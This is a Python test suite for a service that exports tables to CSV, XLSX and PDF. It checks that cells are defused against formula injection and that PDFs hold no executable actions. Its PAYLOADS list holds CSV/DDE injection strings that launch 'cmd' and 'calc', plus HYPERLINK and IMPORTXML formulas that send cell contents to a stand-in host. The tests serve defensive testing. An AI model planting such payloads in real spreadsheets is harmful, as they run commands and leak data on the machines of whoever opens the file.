import csv
import io
import unicodedata
import zipfile
from collections.abc import Sequence
from datetime import date, datetime

import pypdfium2  # type: ignore[import-untyped]
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]

from service.tables.defusing import defused, is_formula, restored
from service.tables.errors import TooLongForPdfError
from service.tables.pdf import MOST_PDF_COLUMNS, MOST_PDF_ROWS, write_pdf
from service.tables.reading import read_table
from service.tables.sheet import Sheet, Value
from service.tables.writing import write_csv, write_xlsx

MADE_ON = date(2026, 11, 28)
_COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = [
    f"={_COMMAND}",
    f"+{_COMMAND}",
    f"-{_COMMAND}",
    f"@{_COMMAND}",
    f"\t={_COMMAND}",
    f"\r={_COMMAND}",
    f"\n={_COMMAND}",
    f" ={_COMMAND}",
    f"\u00a0={_COMMAND}",
    f"\u3000={_COMMAND}",
    f"\u200b={_COMMAND}",
    f"\ufeff={_COMMAND}",
    f"\u202e={_COMMAND}",
    f"\x00={_COMMAND}",
    f"\x1b={_COMMAND}",
    f"\x0b={_COMMAND}",
    f"\x0c={_COMMAND}",
    f"\x85={_COMMAND}",
    f"\u2028={_COMMAND}",
    f"＝{_COMMAND}",
    f"＋{_COMMAND}",
    f"－{_COMMAND}",
    f"＠{_COMMAND}",
    f"﹦{_COMMAND}",
    f"﹢{_COMMAND}",
    f"﹣{_COMMAND}",
    f"﹫{_COMMAND}",
    f"'={_COMMAND}",
    f"''={_COMMAND}",
    f'";={_COMMAND}',
    "\tcmd",
    "\rcmd",
    "\ncmd",
    "=1+1",
    "=1+1;2",
    "+1",
    "-1",
    "--1",
    "=-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1;"klik")',
    '=IMPORTXML(CONCAT("http://example.org?v=";CONCATENATE(A2:E2));"//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=rundll32|'URL.dll,OpenURL http://example.org'!A",
    "+31 10 000 00 00",
    "\t\t+1",
    "=",
    "-",
    "=\n1",
    "   \t  =1",
]


def a_sheet(rows: Sequence[Sequence[Value]], columns: list[str] | None = None) -> Sheet:
    names = columns or [f"Kolom {place}" for place in range(1, 1 + max(map(len, rows), default=1))]
    return Sheet(title="Lijst", columns=names, rows=rows, made_on=MADE_ON, notes=["Let op"])


def pdf_text(content: bytes) -> str:
    document = pypdfium2.PdfDocument(content)
    try:
        return "\n".join(page.get_textpage().get_text_bounded() for page in document)
    finally:
        document.close()


def begins_a_formula(cell: str) -> bool:
    seen = [each for each in cell if unicodedata.category(each)[0] not in "CZ"]
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", "".join(seen))[
        :1
    ] in tuple("=+-@")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_file_begins_a_formula(payload: str) -> None:
    text = write_csv(a_sheet([[payload, "x"], ["x", payload]], [payload, "kop"])).decode(
        "utf-8-sig"
    )
    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]
    assert len(cells) == 6
    assert not [cell for cell in cells if begins_a_formula(cell)]


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    sheet = Sheet(
        title="=1+1",
        columns=PAYLOADS,
        rows=[[*PAYLOADS], ["#N/A", "#REF!", "1", "TRUE"]],
        made_on=MADE_ON,
        notes=PAYLOADS,
    )
    content = write_xlsx(sheet)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = [archive.read(name) for name in archive.namelist() if "worksheets/" in name]
    assert not [part for part in parts if b"<f" in part or b'Target="' in part]
    cells = [cell for each in load_workbook(io.BytesIO(content)) for row in each for cell in row]
    filled = [cell for cell in cells if cell.value is not None]
    assert len(filled) > 3 * len(PAYLOADS)
    assert {cell.data_type for cell in filled} == {"s"}
    assert not [cell for cell in filled if is_formula(cell.value) and not cell.quotePrefix]


def test_a_pdf_shows_payloads_as_text_and_holds_nothing_that_runs() -> None:
    content = write_pdf(a_sheet([[payload] for payload in PAYLOADS]))
    assert "HYPERLINK" in pdf_text(content)
    assert not [word for word in (b"/JavaScript", b"/Launch", b"/URI", b"/AA") if word in content]


@given(st.text())
@example("'=")
@example("''")
def test_a_defused_text_is_no_formula_and_can_be_restored(text: str) -> None:
    assert not is_formula(defused(text))
    assert restored(defused(text)) == text


# Cells as readers keep them: something is in the last one, and in none is a control character.
WRITABLE = st.text(
    st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff")
    | st.sampled_from("\n\t;,\"'=+-@_x0041"),
    max_size=30,
)
FILLED = WRITABLE.filter(lambda text: bool(text.strip()))
ROWS = st.lists(st.tuples(WRITABLE, FILLED).map(list), min_size=1, max_size=5)


@given(ROWS)
@example([["a\r\nb\rc", "_x0041_"], ["'=x", "'+"]])
def test_csv_gives_back_any_text(rows: list[list[str]]) -> None:
    read = read_table("a.csv", write_csv(a_sheet(rows, ["een", "twee"])))
    assert [list(row.cells) for row in read.rows] == rows


@settings(max_examples=15, deadline=None)
@given(st.lists(st.tuples(WRITABLE, FILLED).map(list), min_size=20, max_size=40))
@example([["a\r\nb\rc", "_x0041_"], ["'=x", "'+"], ["#N/A", "=1+1"], ["1", "TRUE"]])
def test_a_workbook_gives_back_any_text(rows: list[list[str]]) -> None:
    read = read_table("a.xlsx", write_xlsx(a_sheet(rows, ["een", "twee"])))
    assert [list(row.cells) for row in read.rows] == rows


def test_numbers_and_days_stay_what_they_are() -> None:
    row: list[Value] = [
        -5,
        -1.5,
        date(2026, 1, 31),
        datetime(2026, 1, 31, 14, 5),
        True,
        None,
        float("nan"),
        "x",
    ]
    shown = ("-5", "-1.5", "2026-01-31", "2026-01-31 14:05", "ja", "", "", "x")
    content = write_xlsx(a_sheet([row]))
    assert read_table("a.xlsx", content).rows[0].cells == shown
    assert [cell.data_type for cell in load_workbook(io.BytesIO(content)).active[2]][:3] == [
        "n",
        "n",
        "d",
    ]
    assert "-1,5 31-01-2026" in " ".join(pdf_text(write_pdf(a_sheet([row]))).split())
    line = write_csv(a_sheet([row])).decode("utf-8-sig").splitlines()[1]
    assert line == "-5;-1,5;2026-01-31;2026-01-31 14:05;ja;;;x"


def test_control_characters_and_halves_are_taken_out_of_every_file() -> None:
    sheet = a_sheet([["a\x00b\x07\x1bc\ud800d\uffff"]])
    assert read_table("a.csv", write_csv(sheet)).rows[0].cells == ("abc\ufffdd\ufffd",)
    assert read_table("a.xlsx", write_xlsx(sheet)).rows[0].cells == ("abc\ufffdd\ufffd",)
    assert "abc" in pdf_text(write_pdf(sheet))


def test_a_text_too_long_for_a_cell_of_a_workbook_ends_in_an_ellipsis() -> None:
    found = read_table("a.xlsx", write_xlsx(a_sheet([["x" * 40_000]]))).rows[0].cells[0]
    assert (len(found), found[-2:]) == (32_767, "x…")


def test_a_pdf_has_title_day_notes_and_all_of_a_long_text() -> None:
    words = " ".join(f"woord{number}" for number in range(1500))
    shown = pdf_text(write_pdf(a_sheet([["één", words, "W" * 300]])))
    assert "Lijst" in shown
    assert "Gemaakt op 28-11-2026" in shown
    assert "Let op" in shown
    assert "één" in shown
    assert all(f"woord{number}" in shown for number in range(1500))
    assert shown.count("W") == 300
    assert shown.count("Kolom 1") > 1


def test_the_same_table_gives_the_same_pdf() -> None:
    assert write_pdf(a_sheet([["x"]])) == write_pdf(a_sheet([["x"]]))


def test_a_list_that_is_too_long_for_a_pdf_is_refused() -> None:
    for rows in (
        [["x"]] * (MOST_PDF_ROWS + 1),
        [["x"] * (MOST_PDF_COLUMNS + 1)],
        [["x" * 200_001]],
    ):
        with pytest.raises(TooLongForPdfError, match="choose XLSX"):
            write_pdf(a_sheet(rows))


@settings(max_examples=12, deadline=None)
@given(st.lists(st.lists(st.text(max_size=300), min_size=3, max_size=3), min_size=1, max_size=4))
@example([["\u2a0c" * 300] * MOST_PDF_COLUMNS, ["W\n" * 100] * MOST_PDF_COLUMNS])
@example([["שלום مرحبا 你好 😀 e\u0301 \u202e"] * 3])
def test_any_text_is_written_to_pdf(rows: list[list[Value]]) -> None:
    columns = ["W" * 300] * len(rows[0])
    assert write_pdf(a_sheet(rows, columns)).startswith(b"%PDF-")
